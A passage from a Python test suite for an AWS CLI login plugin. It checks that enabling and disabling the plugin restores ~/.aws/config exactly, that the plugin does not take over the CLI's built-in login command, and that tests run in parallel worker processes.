        lines = self.plugin("status", "--aws", target[0]).stdout.splitlines()
        self.assertIn("fails", line_of(other[0]))
        self.assertIn("No module named 'aws_login'", line_of(other[0]))
        self.assertIn("plugin loads", line_of(target[0]))


class PluginUndoTest(PluginCliTestCase):
    """`plugin disable` takes back only what is still as enable left it, keeps
    ~/.aws/config's mode, and removes the files and folders only enable made."""

    def setUp(self):
        PluginCliTestCase.setUp(self)
        self.cli = self.make_cli("cli")
        for name in ("other", "awscli_login"):          # plugins a user may have
            self.write(os.path.join(self.cli[1], name + ".py"),
                       "def awscli_initialize(cli):\n    pass\n")
        self.on_path(os.path.dirname(self.cli[0]))

    def toggle(self, action, aws=None):
        run = self.plugin(action, *(["--aws", aws or self.cli[0]] if action == "enable" else []))
        self.assertEqual(run.code, 0, run)

    def test_disable_gives_back_the_line_enable_replaced_byte_for_byte(self):
        for before in ("[default]\nregion = x\n\n[plugins]\nLogin : other\n",
                       "[plugins]\r\nLOGIN=awscli_login\r\n# mine\r\n"):
            self.write(self.aws_config, before)
            self.toggle("enable")
            self.assertIn("login = aws_login", self.read(self.aws_config))
            self.toggle("disable")
            self.assertEqual(self.read(self.aws_config), before)

    def test_disable_keeps_what_the_user_changed_since_enable(self):
        before = "[default]\nregion = x\n"
        for theirs in ("login = awscli_login", "Login : other", "login = aws_login "):
            self.write(self.aws_config, before)
            self.toggle("enable")
            text = self.read(self.aws_config)
            self.assertEqual(text, before + "\n[plugins]\nlogin = aws_login\n")
            self.write(self.aws_config, text.replace("login = aws_login\n", theirs + "\n"))
            run = self.plugin("disable")
            self.assertEqual(run.code, 0, run)
            self.assertIn("Left `login` in [plugins]", run.stderr)
            self.assertEqual(self.read(self.aws_config), before + "\n[plugins]\n" + theirs + "\n")
            self.assertFalse(os.path.exists(os.path.join(self.cli[1], "aws_login.py")))

    def test_disable_keeps_a_plugin_path_changed_since_enable(self):
        v2, _ = self.make_cli("v2", version="2.31.0")
        self.on_path(os.path.dirname(v2))
        folder = os.path.join(self.home, ".aws-login", "plugin")
        self.write(self.aws_config, "[default]\nregion = x\n")
        self.toggle("enable", v2)
        text = self.read(self.aws_config)
        self.assertEqual(text, "[default]\nregion = x\n\n[plugins]\nlogin = aws_login\n"
                               "cli_legacy_plugin_path = %s\n" % folder)
        self.write(self.aws_config, text.replace(" = " + folder, " = %s:%s" % (self.cli[1], folder)))
        self.toggle("disable")
        self.assertEqual(self.read(self.aws_config), "[default]\nregion = x\n\n[plugins]\n"
                         "cli_legacy_plugin_path = %s:%s\n" % (self.cli[1], folder))
        self.assertFalse(os.path.exists(os.path.join(folder, "aws_login.py")))

    def test_a_record_of_the_version_before_is_undone(self):
        # it kept the values enable replaced, and one module
        module = os.path.join(self.cli[1], "aws_login.py")
        shutil.copy(SCRIPT, module)
        before = "[default]\nregion = x\n"
        self.write(self.aws_config, before + "\n[plugins]\nlogin = aws_login\n")
        self.write(os.path.join(self.home, ".aws-login", "plugin.json"), json.dumps({
            "aws": self.cli[0], "aws_version": "1.45.11", "config": self.aws_config,
            "config_existed": True, "section_added": True, "previous": {"login": None},
            "module": module, "module_sha256": aws_login._file_digest(module),
            "already_importable": None}))
        self.toggle("disable")
        self.assertEqual(self.read(self.aws_config), before)
        self.assertFalse(os.path.exists(module))

    def test_the_config_keeps_its_mode(self):
        for mode in (0o644, 0o600, 0o640):
            self.write(self.aws_config, "[default]\nregion = x\n", mode=mode)
            for action in ("enable", "disable"):
                self.toggle(action)
                self.assertEqual(stat.S_IMODE(os.stat(self.aws_config).st_mode), mode, action)

    def test_an_aws_folder_only_enable_made_goes_with_disable(self):
        aws_dir = os.path.dirname(self.aws_config)
        self.toggle("enable")
        self.assertEqual(stat.S_IMODE(os.stat(self.aws_config).st_mode), 0o600)
        self.toggle("disable")
        self.assertFalse(os.path.exists(aws_dir))
        os.mkdir(aws_dir)                                 # the user's, empty
        self.toggle("enable")
        self.toggle("disable")
        self.assertEqual(os.listdir(aws_dir), [])
        os.rmdir(aws_dir)
        self.toggle("enable")
        self.write(os.path.join(aws_dir, "credentials"), "")     # the user's, since
        self.toggle("disable")
        self.assertEqual(os.listdir(aws_dir), ["credentials"])

    def test_the_v2_plugin_folder_is_private(self):
        v2, _ = self.make_cli("v2", version="2.31.0")
        self.on_path(os.path.dirname(v2))
        folder = os.path.join(self.home, ".aws-login", "plugin")
        self.toggle("enable", v2)
        self.assertEqual(stat.S_IMODE(os.stat(folder).st_mode), 0o700)
        self.assertEqual(stat.S_IMODE(os.stat(os.path.join(folder, "aws_login.py")).st_mode),
                         0o644)
        self.toggle("disable")
        self.assertFalse(os.path.exists(folder))


# An AWS CLI that builds its command table as awscli does: its built-in
# commands (`login` and `logout` from 2.32.0 on), then each plugin's
# awscli_initialize handlers; `aws NAME SUB` asks for NAME's subcommand table.
# It says whose command it ran, and runs the plugin's (the probe answers).
FAKE_AWS_TABLE = (
    "import configparser, os, sys, types\n"
    "VERSION = %r\n"
    "parser = configparser.RawConfigParser()\n"
    "parser.read(os.environ.get('AWS_CONFIG_FILE') or os.path.expanduser('~/.aws/config'))\n"
    "plugins = dict(parser.items('plugins')) if parser.has_section('plugins') else {}\n"
    "if VERSION.startswith('2'):\n"
    "    path = plugins.pop('cli_legacy_plugin_path', None)\n"
    "    sys.path.extend(path.split(os.pathsep) if path is not None else [])\n"
    "    plugins = plugins if path is not None else {}\n"
    "commands = types.ModuleType('awscli.customizations.commands')\n"
    "class BasicCommand(object):\n"
    "    def __init__(self, session):\n"
    "        self._session = session\n"
    "commands.BasicCommand = BasicCommand\n"
    "sys.modules.update({'awscli': types.ModuleType('awscli'), 'awscli.customizations':\n"
    "                    types.ModuleType('awscli.customizations'),\n"
    "                    'awscli.customizations.commands': commands})\n"
    "handlers = {}\n"
    "class Emitter(object):\n"
    "    def register(self, event, handler):\n"
    "        handlers.setdefault(event, []).append(handler)\n"
    "for module in [__import__(m) for m in plugins.values()]:\n"
    "    module.awscli_initialize(Emitter())\n"
    "if sys.argv[1:] == ['--version']:\n"
    "    print('aws-cli/%%s Python/3 Linux botocore/1' %% VERSION); sys.exit(0)\n"
    "def table(event, builtins):\n"
    "    found = dict((name, 'built-in') for name in builtins)\n"
    "    for handler in handlers.get(event, []):\n"
    "        handler(command_table=found, session=None)\n"
    "    return found\n"
    "own = tuple(map(int, VERSION.split('.'))) >= (2, 32, 0)\n"
    "words = sys.argv[1:]\n"
    "command = table('building-command-table.main',\n"
    "                ['configure'] + (['login', 'logout'] if own else [])).get(words[0])\n"
    "if command not in (None, 'built-in') and len(words) > 1:\n"
    "    command = table('building-command-table.' + words[0], []).get(words[1])\n"
    "if command is None:\n"
    "    print('aws: error: argument command: Invalid choice'); sys.exit(252)\n"
    "if command == 'built-in':\n"
    "    print('built-in', ' '.join(words)); sys.exit(0)\n"
    "print('plugin', command.NAME)\n"
    "args = type('Args', (), dict((a['name'].replace('-', '_'), None)\n"
    "                             for a in command.ARG_TABLE))()\n"
    "sys.exit(command._run_main(args, type('Globals', (), {'profile': None})()))\n")


class PluginCommandTest(PluginCliTestCase):
    """AWS CLI v2.32 and later have their own `aws login` and `aws logout`:
    `plugin enable` never replaces them unless told to (--replace-builtin), and
    --command NAME gives `aws NAME` (with `configure` and `logout` beneath it)
    beside them."""

    def table_cli(self, venv, version):
        """An AWS CLI of ``version`` (FAKE_AWS_TABLE) alone on PATH: its aws."""
        aws, _ = self.make_cli(venv, version=version)
        with open(aws) as f:
            shebang = f.readline()
        self.write(aws, shebang + FAKE_AWS_TABLE % version, mode=0o755)
        self.on_path(os.path.dirname(aws))
        return aws

    def ran(self, aws, *words):
        """Whose command `aws WORDS` ran: ("built-in", words), ("plugin", NAME)
        when the plugin's command answered the probe, else what it said."""
        code, out = self.aws(aws, *words, AWS_LOGIN_PLUGIN_PROBE="probe-1")
        lines = out.splitlines()
        if code == 0 and lines[:1] == ["built-in " + " ".join(words)]:
            return "built-in", " ".join(words)
        if code == 0 and len(lines) == 2 and lines[1].startswith("probe-1 "):
            return tuple(lines[0].split())
        return code, out

    def assert_refused(self, run, aws, before):
        self.assertEqual(run.code, 3, run)
        self.assertEqual(len(run.stderr.strip().splitlines()), 1, run)
        for word in (aws, "--command", "--replace-builtin", "nothing changed"):
            self.assertIn(word, run.stderr)
        self.assertEqual(self.read(self.aws_config), before)
        self.assertFalse(os.path.exists(os.path.join(self.home, ".aws-login", "plugin")))
        self.assertFalse(os.path.exists(os.path.join(self.home, ".aws-login", "plugin.json")))
        self.assertEqual(self.ran(aws, "login"), ("built-in", "login"))
        self.assertEqual(self.ran(aws, "logout"), ("built-in", "logout"))

    def test_enable_refuses_to_replace_the_aws_clis_own_login(self):
        aws = self.table_cli("v2", "2.32.0")
        before = "[default]\nregion = eu-west-1\n"
        self.write(self.aws_config, before)
        self.assert_refused(self.plugin("enable", "--aws", aws), aws, before)
        # a name of its own, but one of the AWS CLI's: refused as well
        self.assert_refused(self.plugin("enable", "--aws", aws, "--command", "logout"),
                            aws, before)

    @slow
    def test_a_command_of_its_own_name_lives_beside_the_builtin_login(self):
        aws = self.table_cli("v2", "2.33.1")
        before = "[default]\nregion = eu-west-1\n"
        self.write(self.aws_config, before)
        run = self.plugin("enable", "--aws", aws, "--command", "saml-login")
        self.assertEqual(run.code, 0, run)
        self.assertIn("`aws saml-login`", run.stderr)
        self.assertEqual(self.ran(aws, "saml-login"), ("plugin", "saml-login"))
        self.assertEqual(self.ran(aws, "saml-login", "configure"), ("plugin", "configure"))
        self.assertEqual(self.ran(aws, "saml-login", "logout"), ("plugin", "logout"))
        self.assertEqual(self.ran(aws, "login"), ("built-in", "login"))
        self.assertEqual(self.ran(aws, "logout"), ("built-in", "logout"))
        status = self.plugin("status", "--aws", aws).stdout
        self.assertIn("`aws saml-login`", status)
        self.assertIn("plugin loads", status)
        self.assertNotIn("warning", status)
        run = self.plugin("disable")
        self.assertEqual(run.code, 0, run)
        self.assertEqual(self.read(self.aws_config), before)
        self.assertEqual(self.ran(aws, "saml-login")[0], 252)
        self.assertEqual(self.ran(aws, "login"), ("built-in", "login"))

    @slow
    def test_replace_builtin_gives_login_and_logout_to_the_plugin_and_status_says_so(self):
        aws = self.table_cli("v2", "2.32.0")
        run = self.plugin("enable", "--aws", aws, "--replace-builtin")
        self.assertEqual(run.code, 0, run)
        self.assertEqual(self.ran(aws, "login"), ("plugin", "login"))
        self.assertEqual(self.ran(aws, "logout"), ("plugin", "logout"))
        self.assertEqual(self.ran(aws, "login", "configure"), ("plugin", "configure"))
        status = self.plugin("status", "--aws", aws).stdout
        self.assertIn("warning", status)
        self.assertIn("replaces the AWS CLI's own `aws login` and `aws logout`", status)
        self.assertEqual(self.plugin("disable").code, 0)
        self.assertEqual(self.ran(aws, "login"), ("built-in", "login"))

    def test_an_aws_cli_v2_before_2_32_keeps_the_name_login(self):
        aws = self.table_cli("v2", "2.31.9")
        run = self.plugin("enable", "--aws", aws)
        self.assertEqual(run.code, 0, run)
        self.assertEqual(self.ran(aws, "login"), ("plugin", "login"))
        self.assertEqual(self.ran(aws, "logout"), ("plugin", "logout"))

    def test_an_aws_cli_v1_takes_a_name_of_its_own_too(self):
        aws = self.table_cli("v1", "1.45.11")
        self.assertEqual(self.plugin("enable", "--aws", aws, "--command", "idp").code, 0)
        self.assertEqual(self.ran(aws, "idp", "logout"), ("plugin", "logout"))
        self.assertEqual(self.ran(aws, "login")[0], 252)

    def test_a_command_name_must_be_one_word_of_the_aws_clis_kind(self):
        for name in ("", "saml login", "a.b", "-x", "Login", "x" * 65, "saml_login", None, 7):
            self.assertFalse(aws_login._is_command_name(name), name)
        for name in ("login", "saml-login", "idp2", "x" * 64):
            self.assertTrue(aws_login._is_command_name(name), name)
        aws = self.table_cli("v1", "1.45.11")
        run = self.plugin("enable", "--aws", aws, "--command=a.b")
        self.assertEqual(run.code, 3, run)
        self.assertEqual(run.stderr, "aws_login: error: --command 'a.b' is not a command name: "
                                     "one word of lower-case letters, digits and hyphens, a "
                                     "letter first\n")
        self.assertFalse(os.path.exists(self.aws_config))


class PluginCommandHookTest(LoginTestCase):
    """The hook reads the name `plugin enable --command` chose from enable's
    record (one small file: the hook runs on every `aws` command), and hints
    name it."""

    setUp = AwsCliPluginTest.setUp
    run_main = AwsCliPluginTest.run_main

    def tables(self, name):
        registered = {}
        aws_login.awscli_initialize(type("Cli", (), {
            "register": lambda self, event, handler: registered.__setitem__(event, handler)})())
        self.assertEqual(sorted(registered), sorted(["building-command-table.main",
                                                     "building-command-table." + name]))
        main_table, sub_table = {}, {}
        registered["building-command-table.main"](command_table=main_table, session="s")
        registered["building-command-table." + name](command_table=sub_table, session="s")
        return main_table, sub_table

    def record(self, text):
        self.write(os.path.join(self.home, ".aws-login", "plugin.json"), text)

    def test_the_hook_registers_the_recorded_name_with_configure_and_logout_beneath(self):
        self.record(json.dumps({"command": "saml-login", "lines": {}, "modules": []}))
        main_table, sub_table = self.tables("saml-login")
        self.assertEqual(sorted(main_table), ["saml-login"])
        self.assertEqual(sorted(sub_table), ["configure", "logout"])
        self.assertEqual(main_table["saml-login"].NAME, "saml-login")
        args = type("Args", (), {"role_arn": None, "force": False, "no_refresh": True})()
        code, err = self.run_main(main_table["saml-login"], args,
                                  type("Globals", (), {"profile": "nowhere"})())
        self.assertEqual(code, 3)
        self.assertEqual(err, "aws_login: error: profile 'nowhere' is not configured: run "
                              "`aws --profile nowhere saml-login configure`\n")

    def test_without_a_usable_record_the_name_is_login(self):
        for text in (None, "{", "[]", json.dumps({"lines": {}}),
                     json.dumps({"command": "a.b"}), json.dumps({"command": 7})):
            if text is not None:
                self.record(text)
            main_table, sub_table = self.tables("login")
            self.assertEqual(sorted(main_table), ["login", "logout"], text)
            self.assertEqual(sorted(sub_table), ["configure"], text)


# ---------------------------------------------------------------------------
# Runner: tests in parallel processes, a plain closing line for CI
# ---------------------------------------------------------------------------
# Most of a test's time is spent waiting for the tool (a process on a pty, a
# renewal due in a few seconds), so independent tests run in JOBS worker
# processes: each worker is this file run with --worker, takes test names one
# at a time on a pipe and answers each with a JSON line on another.  Every
# test still gets its own home, servers and environment; workers share
# nothing but the machine.  Classes that mark themselves SLOW, and tests
# marked @slow, start first.

def _all_tests(names=()):
    loader = unittest.defaultTestLoader
    module = sys.modules[__name__]
    suite = (loader.loadTestsFromNames(names, module) if names
             else loader.loadTestsFromModule(module))
    tests, stack = [], [suite]
    while stack:
        item = stack.pop(0)
        if isinstance(item, unittest.TestSuite):
            stack[:0] = list(item)
        else:
            tests.append(item)
    return tests


def _test_name(test):
    return "%s.%s" % (type(test).__name__, test._testMethodName)


def _run_one(name):
    """Run one test here: ("pass"|"fail"|"skip", report text)."""
    stream = io.StringIO()
    result = unittest.TextTestRunner(stream=stream, verbosity=0).run(
        unittest.TestSuite(_all_tests([name])))
    problems = result.failures + result.errors
    if problems or result.unexpectedSuccesses:
        text = "".join("%s\n%s\n%s\n" % ("=" * 70, what, trace) for what, trace in
                       [(str(t), tr) for t, tr in problems])
        return "fail", text or "unexpected success: %s\n" % name
    if result.skipped:
        return "skip", result.skipped[0][1]
    return "pass", ""


def _worker(requests_fd, answers_fd):
    """--worker: run the test named on each line of requests_fd."""
    os.set_inheritable(requests_fd, False)
    os.set_inheritable(answers_fd, False)
    requests = os.fdopen(requests_fd, "r")
    for line in requests:
        name = line.strip()
        try:
            outcome, text = _run_one(name)
        except BaseException:                  # the runner itself broke: say so
            outcome, text = "fail", traceback.format_exc()
        os.write(answers_fd, (json.dumps([name, outcome, text]) + "\n").encode())
    return 0


def _jobs():
    try:
        return max(1, int(os.environ.get("JOBS", "")))
    except ValueError:
        return min(8, 3 * (os.cpu_count() or 1))


def run_all(argv=()):
    """All tests, or those named (``python3 test_aws_login.py IniTest``), in
    JOBS parallel workers; --failfast stops at the first failure, --list
    prints the names.  Ends with ``pythonX.Y.Z: N passed, M failed, K skipped``."""
    args = list(argv)
    if args[:1] == ["--worker"]:
        return _worker(int(args[1]), int(args[2]))
    failfast = "--failfast" in args
    names = [a for a in args if not a.startswith("--")]
    tests = _all_tests(names)
    if "--list" in args:
        print("\n".join(_test_name(t) for t in tests))
        return 0
    cache_bytecode()
    first = [t for t in tests if getattr(t, "SLOW", False)
             or getattr(getattr(t, t._testMethodName), "SLOW", False)]
    queue = [_test_name(t) for t in first] + [_test_name(t) for t in tests if t not in first]
    started, counts, reports = time.time(), {"pass": 0, "fail": 0, "skip": 0}, []
    workers = []                       # [process, request pipe, answers reader, busy]
    for _ in range(min(_jobs(), len(queue))):
        request_r, request_w = os.pipe()
        answer_r, answer_w = os.pipe()
        proc = subprocess.Popen([sys.executable, os.path.abspath(__file__), "--worker",
                                 str(request_r), str(answer_w)],
                                pass_fds=(request_r, answer_w), stdin=subprocess.DEVNULL,
                                start_new_session=True)
        os.close(request_r)
        os.close(answer_w)
        workers.append([proc, os.fdopen(request_w, "w", 1), os.fdopen(answer_r, "r"), None])
    try:
        while True:
            for worker in workers:
                if worker[3] is None and queue:
                    worker[3] = queue.pop(0)
                    worker[1].write(worker[3] + "\n")
            busy = [w for w in workers if w[3] is not None]
            if not busy:
                break
            for worker in select.select([w[2] for w in busy], [], [])[0]:
                worker = next(w for w in busy if w[2] is worker)
                line = worker[2].readline()
                if not line:
                    name, outcome, text = worker[3], "fail", "the worker died running it\n"
                else:
                    name, outcome, text = json.loads(line)
                worker[3] = None
                counts[outcome] += 1
                sys.stderr.write({"pass": ".", "fail": "F", "skip": "s"}[outcome])
                sys.stderr.flush()
                if outcome == "fail":
                    reports.append(text)
                    if failfast:
                        queue = []
                        break
                if not line:
                    workers.remove(worker)
            if failfast and reports:
                break
    finally:
        for proc, request, answers, _ in workers:
            request.close()
            answers.close()
            if failfast and reports:
                try:
                    os.killpg(proc.pid, signal.SIGKILL)
                except OSError:
                    pass
            proc.wait()
    for name in ([] if failfast and reports else queue):
        counts["fail"] += 1                    # every worker died: not run is not passed
        reports.append("%s\nnot run: no worker left\n" % name)
    sys.stderr.write("\n" + "".join(reports))
    sys.stderr.write("-" * 70 + "\nRan %d tests in %.1fs with %d workers\n" % (
        sum(counts.values()), time.time() - started, len(workers) or 1))
    print("python%s: %d passed, %d failed, %d skipped" % (
        sys.version.split()[0], counts["pass"], counts["fail"], counts["skip"]))
    return 1 if counts["fail"] else 0


if __name__ == "__main__":
    # Started in the background by a shell, we inherit SIGINT ignored, and the
    # tool under test would too: the tests that press Ctrl-C would hang.  A
    # handler (unlike "ignored") is reset to the default in every child.
    signal.signal(signal.SIGINT, signal.default_int_handler)
    sys.exit(run_all(sys.argv[1:]))
